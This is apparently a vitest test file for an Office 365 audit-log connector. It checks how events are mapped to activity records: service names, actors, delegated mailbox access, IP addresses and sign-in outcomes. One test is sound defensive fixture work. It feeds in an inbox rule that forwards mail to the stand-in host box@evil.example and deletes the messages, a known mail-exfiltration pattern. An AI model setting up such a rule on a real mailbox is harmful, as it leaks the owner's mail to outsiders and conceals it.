/** What records say: who did it, in which service, as whom, and how it ended. */
import { describe, expect, test } from "vitest";
import type { ActivityRecord } from "#src/connector-kit/contract/records.ts";
import { office365 } from "#src/connectors/office365/index.ts";
import { audited, ran, recorded, signedIn } from "./events.ts";

const mapped = (event: object): ActivityRecord => office365.mapEvent!(event)[0]!;
const service = (event: object) => mapped(event).targets.find(({ type }) => type === "Service")?.name;

test.each([
  ["CRM", 21, "Retrieve", "Dynamics 365 CRM"],
  ["Exchange", 2, "Send", "Exchange"],
  ["Office", 70, "SensitivityLabelApplied", "Office"],
  ["OneDrive", 6, "FileDownloaded", "OneDrive"],
  ["MicrosoftFlow", 30, "CreateFlow", "Power Automate"],
  ["PowerBI", 20, "ViewReport", "Power BI"],
  ["SharePoint", 6, "FileDownloaded", "SharePoint"],
  ["SkypeForBusiness", 23, "Set-CsTenantFederationConfiguration", "Skype for Business"],
  ["MicrosoftTeams", 25, "MessageSent", "Teams"],
  ["Yammer", 22, "FileVisited", "Yammer"],
  [undefined, 25, "MessageSent", "Teams"],
  ["MicrosoftTeams", "25", "MessageSent", "Teams"],
])("an activity of workload %s and record type %s names its service", (Workload, RecordType, operation, expected) => {
  expect(service(recorded(operation, { Workload, RecordType }))).toBe(expected);
});

describe("who did it", () => {
  const inMailbox = (more: object) =>
    mapped(recorded("MailItemsAccessed", { RecordType: 50, Workload: "Exchange", LogonType: 0, ...more }));

  test("a delegate in another's mailbox acts as somebody else", () => {
    const delegated = inMailbox({ LogonType: 2, MailboxOwnerUPN: "chief@fabrikam.example", SessionId: "s-1" });
    expect(delegated).toMatchObject({
      ...{ impersonated: true, sessionId: "s-1", category: "USER" },
      ...{ description: "mara.lind@fabrikam.example read messages in the mailbox of chief@fabrikam.example" },
    });
    expect(inMailbox({ MailboxOwnerUPN: "Mara.Lind@fabrikam.example" }).impersonated).toBeUndefined();
    expect(inMailbox({ LogonType: 1, MailboxOwnerUPN: "chief@fabrikam.example" }).impersonated).toBe(true);
  });

  test.each([
    ["NT AUTHORITY\\SYSTEM (Microsoft.Exchange.ServiceHost)", 3, { type: "SERVICE", isAccount: false }],
    ["app@sharepoint", 0, { type: "SERVICE", isAccount: false, name: "Indexer" }],
    ["ServicePrincipal_5e1f0000-0000-4000-8000-000000000001", 6, { type: "SERVICE", isAccount: false }],
    ["urn:spo:anon#8a2f", 10, { isAccount: false, name: "an anonymous person" }],
    ["urn:spo:guest#lena@partner.example", 10, { isAccount: false, email: "lena@partner.example" }],
    ["i:0h.f|membership|mara.lind@fabrikam.example", 0, { type: "HUMAN", login: "mara.lind@fabrikam.example" }],
  ])("%s", (UserId, UserType, expected) => {
    const record = recorded("FileAccessed", { UserId, UserType, UserKey: "", ApplicationDisplayName: "Indexer" });
    expect(mapped(record).actor).toMatchObject(UserId.startsWith("app@") ? expected : { ...expected });
  });

  test("the directory names accounts by their ids", () => {
    const Actor = [
      { ID: "root@fabrikam.example", Type: 5 },
      { ID: "User_5b1f0e6a-8d0c-4b7e-9a7d-1c2e3f4a5b6c", Type: 2 },
      { ID: "User", Type: 2 },
    ];
    const record = recorded("Add member to role.", {
      ...{ RecordType: 8, Workload: "AzureActiveDirectory", UserId: "root@fabrikam.example", Actor },
      Target: [
        { ID: "User_7d3c1b52-0f5e-4f0a-9c84-2b6f1f9a5e10", Type: 2 },
        { ID: "User", Type: 2 },
        { ID: "mara.lind@fabrikam.example", Type: 5 },
      ],
      ModifiedProperties: [{ Name: "Role.DisplayName", NewValue: "Global Administrator", OldValue: "" }],
    });
    expect(mapped(record)).toMatchObject({
      category: "ADMIN",
      actor: { externalId: "5b1f0e6a-8d0c-4b7e-9a7d-1c2e3f4a5b6c", login: "root@fabrikam.example" },
      description: "root@fabrikam.example gave mara.lind@fabrikam.example the role Global Administrator",
    });
  });

  test("nobody is not an account", () => {
    expect(mapped(recorded("SearchAlert", { RecordType: 52, UserId: "NOT-FOUND", UserType: 5 })).actor).toBeNull();
  });
});

test.each([
  ["203.0.113.9:51234", "203.0.113.9"],
  ["[2001:db8::9]:51234", "2001:db8::9"],
  ["::ffff:203.0.113.9", "203.0.113.9"],
  ["<null>", null],
])("the address %s is %s", (ClientIP, expected) => {
  expect(mapped(recorded("FileAccessed", { ClientIP })).ipAddress).toBe(expected);
});

describe("how it ended", () => {
  test("a failed sign-in of the audit log has its reason, one more step is no failure", () => {
    const failed = { RecordType: 15, Workload: "AzureActiveDirectory", ResultStatus: "Success" };
    const wrong = mapped(
      recorded("UserLoginFailed", { ...failed, ErrorNumber: "50126", LogonError: "InvalidUserNameOrPassword" }),
    );
    expect(wrong).toMatchObject({ category: "LOG_ON", outcome: "FAILURE" });
    expect(wrong.description).toContain("InvalidUserNameOrPassword (AADSTS50126)");
    expect(mapped(recorded("UserLoginFailed", { ...failed, ErrorNumber: "50140" })).outcome).toBe("UNKNOWN");
  });

  test("a sign-in of Graph: by hand, without interaction, by a service, and interrupted", () => {
    expect(mapped(signedIn())).toMatchObject({ interactive: true, outcome: "SUCCESS", country: "DE" });
    expect(mapped(signedIn({ signInEventTypes: ["nonInteractiveUser"], sessionId: "s-9" }))).toMatchObject({
      ...{ interactive: false, sessionId: "s-9" },
      description: "Mara Lind signed in to Microsoft Office without interaction",
    });
    const service = { userId: "", userPrincipalName: "", servicePrincipalId: "sp-1", servicePrincipalName: "Backup" };
    expect(mapped(signedIn({ ...service, isInteractive: false }))).toMatchObject({
      actor: { type: "SERVICE", isAccount: false, name: "Backup" },
    });
    const status = { errorCode: 50076, failureReason: "A second factor is needed." };
    expect(mapped(signedIn({ status })).outcome).toBe("UNKNOWN");
  });

  test("a cmdlet and an audit that failed", () => {
    expect(mapped(ran("Set-Mailbox", {}, { ResultStatus: "False" })).outcome).toBe("FAILURE");
    expect(mapped(audited("Add user", { result: "failure", resultReason: "Quota exceeded." }))).toMatchObject({
      ...{
        outcome: "FAILURE",
        description: "root@fabrikam.example created the account of Mara Lind (failed: Quota exceeded)",
      },
    });
  });
});

test("an inbox rule says what it does", () => {
  const rule = ran("New-InboxRule", { Name: "Archive", ForwardTo: "box@evil.example", DeleteMessage: "True" });
  expect(mapped(rule).description).toBe(
    "mara.lind@fabrikam.example created an inbox rule: Archive that forwards messages to box@evil.example and deletes messages",
  );
});

test("an export of the directory's log is read by its envelope", () => {
  const exported = {
    time: "2026-11-18T07:42:19Z",
    category: "AuditLogs",
    callerIpAddress: "203.0.113.4",
    properties: audited("Delete user"),
  };
  expect(mapped(exported)).toMatchObject({ eventType: "Delete user", category: "ADMIN", ipAddress: "203.0.113.4" });
});

test("an operation of a record type that nobody knows is kept", () => {
  expect(mapped(recorded("GadgetPolished", { RecordType: 9999, Workload: "Gadgets" }))).toMatchObject({
    ...{ unmapped: true, category: "USER", description: "mara.lind@fabrikam.example polished gadget" },
  });
});
